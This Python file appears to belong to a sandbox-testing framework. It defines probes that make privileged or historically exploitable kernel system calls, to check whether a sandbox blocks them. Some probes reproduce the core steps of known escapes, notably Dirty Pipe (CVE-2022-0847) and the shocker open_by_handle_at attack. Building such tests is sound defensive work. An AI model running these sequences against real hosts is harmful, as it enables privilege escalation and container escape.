"""Kernel code with a history of escapes, and calls that administer the machine.

Most of what takes a capability of the initial user namespace cannot be shown to work here by an
ordinary user: such an attack has no control, and that it is held proves nothing. It is made anyway.
"""

import functools
import os
import struct
from errno import EOPNOTSUPP

from sandbox.attack.attack import BARE, Attack, add, attack, by
from sandbox.attack.script import AT_FDCWD, AttackScript
from sandbox.attack.targets import Targets

_KIND = "kernel"
_BAD = 1 << 47  # no address of a process: EFAULT
_UFFD_USER_MODE_ONLY = 1
_BPF_MAP_CREATE, _BPF_PROG_LOAD = 0, 5
_MCL_FUTURE = 2
_PIPE_BYTES = 8192


def _make(name: str, arguments: tuple[int | bytes, ...], script: AttackScript, _: Targets) -> None:
    script.call(name, *arguments)


# Those that administer have arguments that change nothing, whoever makes them.
_CALLS: dict[str, tuple[str, tuple[int | bytes, ...]]] = {
    "userfaultfd": ("userfaultfd", (_UFFD_USER_MODE_ONLY,)),
    "userfaultfd_kernel": ("userfaultfd", (0,)),
    "fanotify": ("fanotify_init", (0x200, 0)),
    "fanotify_content": ("fanotify_init", (4, 0)),
    "ioperm": ("ioperm", (0x80, 1, 1)),
    "iopl": ("iopl", (3,)),
    "secret_memory": ("memfd_secret", (0,)),
    "personality_no_randomisation": ("personality", (0x40000,)),
    "personality_read_implies_exec": ("personality", (0x400000,)),
    "personality_32_bits": ("personality", (8,)),
    "adjusted_clock": ("adjtimex", (bytes(208),)),
    "stepped_clock": ("clock_adjtime", (0, struct.pack("<I4xq", 0x100, 0) + bytes(192))),
    "set_clock": ("clock_settime", (0, _BAD)),
    "set_time_of_day": ("settimeofday", (0, 0)),
    "locked_memory": ("mlockall", (_MCL_FUTURE,)),
    "swapped": ("swapon", (b"/dev/null", 0)),
    "unswapped": ("swapoff", (b"/dev/null",)),
    "accounting": ("acct", (b"/tmp/none",)),
    "quota": ("quotactl", (0x80000001 << 8 & 0xFFFFFFFF, 0, 0, 0)),
    "module": ("init_module", (bytes(8), 8, b"")),
    "module_file": ("finit_module", (0, b"", 0)),
    "removed_module": ("delete_module", (b"none", 0x800)),
    "kexec": ("kexec_load", (0, 0, 0, 2)),  # no such flag
    "rebooted": ("reboot", (0, 0, 0, 0)),  # no such magic numbers
    "hung_up": ("vhangup", ()),
    "profiled_path": ("lookup_dcookie", (0, bytes(8), 8)),
    "bound_memory": ("set_mempolicy", (0, 0, 0)),
    "migrated_pages": ("migrate_pages", (0, 8, b"\1" + bytes(7), b"\1" + bytes(7))),
    "shadow_stack": ("map_shadow_stack", (0, 4096, 0)),
    "local_descriptors": ("modify_ldt", (0, bytes(16), 16)),
    "amx": ("arch_prctl", (0x1023, 18)),  # ARCH_REQ_XCOMP_PERM: 8 KiB of state for each thread
    "cpuid_faulting": ("arch_prctl", (0x1012, 1)),
    "landlock_ruleset": ("landlock_create_ruleset", (0, 0, 1)),
}
_X86 = {"ioperm", "iopl", "modify_ldt", "arch_prctl"}

for _name, (_call, _arguments) in _CALLS.items():
    add(
        Attack(
            _name, _KIND, f"Calls {_call}(2) with arguments that would change nothing.", BARE,
            functools.partial(_make, _call, _arguments),
        ),
        machine="x86_64" if _call in _X86 else "",
    )  # fmt: skip


@attack(_KIND, BARE)
def io_uring(script: AttackScript, targets: Targets) -> None:
    """Makes an io_uring, whose operations no filter sees."""
    script.open("io_uring_setup", 1, script.space(120))


@attack(_KIND, BARE)
def asynchronous_io(script: AttackScript, targets: Targets) -> None:
    """Makes a context of the older asynchronous I/O."""
    script.call("io_setup", 1, script.space(8))


@attack(_KIND, BARE)
def bpf_map(script: AttackScript, targets: Targets) -> None:
    """Makes a BPF map."""
    attributes = script.memory(struct.pack("<5I", 2, 4, 4, 1, 0) + bytes(100))
    script.open("bpf", _BPF_MAP_CREATE, attributes, 20)


@attack(_KIND, BARE)
def bpf_program(script: AttackScript, targets: Targets) -> None:
    """Loads a BPF program, past the verifier (CVE-2021-3490)."""
    instructions = script.data(
        struct.pack("<BBhi", 0xB7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)
    )
    attributes = script.memory(struct.pack("<IIQQ", 1, 2, 0, 0) + bytes(100))
    script.point(attributes + 8, instructions)
    script.point(attributes + 16, script.data(b"GPL\0"))
    script.open("bpf", _BPF_PROG_LOAD, attributes, 48)


@attack(_KIND, BARE)
def performance_counter(script: AttackScript, targets: Targets) -> None:
    """Counts its own instructions (CVE-2013-2094)."""
    attributes = script.memory(
        struct.pack("<IIQ", 1, 112, 0) + bytes(24) + struct.pack("<Q", 0x60) + bytes(64)
    )
    script.open("perf_event_open", attributes, 0, -1, -1, 0)


@attack(_KIND, BARE, by("view", name_to_handle_at=EOPNOTSUPP))
def file_handle(script: AttackScript, targets: Targets) -> None:
    """Asks for a handle of a file, half of the shocker attack."""
    handle = script.memory(struct.pack("<Ii", 128, 0) + bytes(128))
    script.call("name_to_handle_at", AT_FDCWD, b"/", handle, script.space(8), 0)


@attack(_KIND, BARE)
def opened_by_handle(script: AttackScript, targets: Targets) -> None:
    """Opens a file of the host by its handle (the shocker attack)."""
    handle = script.memory(struct.pack("<Ii", 8, 1) + struct.pack("<Q", 2))
    fd = script.open_path(b"/", os.O_RDONLY)
    script.open("open_by_handle_at", fd, handle, 0)


@attack(_KIND, BARE)
def filter_of_its_own(script: AttackScript, targets: Targets) -> None:
    """Loads a filter whose listener answers calls in the kernel's place (seccomp_unotify(2))."""
    program = script.data(struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000))
    filter_ = script.memory(struct.pack("<H6xQ", 1, 0))
    script.point(filter_ + 8, program)
    script.call("prctl", 38, 1, 0, 0, 0)
    script.open("seccomp", 1, 8, filter_)


@attack(_KIND, BARE)
def dirty_pipe(script: AttackScript, targets: Targets) -> None:
    """Writes through a pipe to a file that it may only read (CVE-2022-0847)."""
    script.call("pipe2", script.space(8), 0)
    read_fd, write_fd = script.take_fds(2)
    script.call("fcntl", write_fd, 1031, _PIPE_BYTES)  # F_SETPIPE_SZ
    script.call("write", write_fd, script.space(_PIPE_BYTES), _PIPE_BYTES)
    script.call("read", read_fd, script.space(_PIPE_BYTES), _PIPE_BYTES)
    fd = script.open_path(targets.input, os.O_RDONLY)
    script.call("splice", fd, script.data(bytes(8)), write_fd, 0, 1, 0)
    script.call("write", write_fd, b"!!", 2)
    found = script.space(8)
    script.call("pread64", fd, found, 3, 0)
    script.expect(found + 1, b"!!")


@attack(_KIND, BARE)
def gifted_pages(script: AttackScript, targets: Targets) -> None:
    """Gives pages of its memory to a pipe (vmsplice(2), CVE-2008-0600)."""
    script.call("pipe2", script.space(8), 0)
    _, write_fd = script.take_fds(2)
    script.call("vmsplice", write_fd, script.iovec(script.space(64), 64), 1, 0)
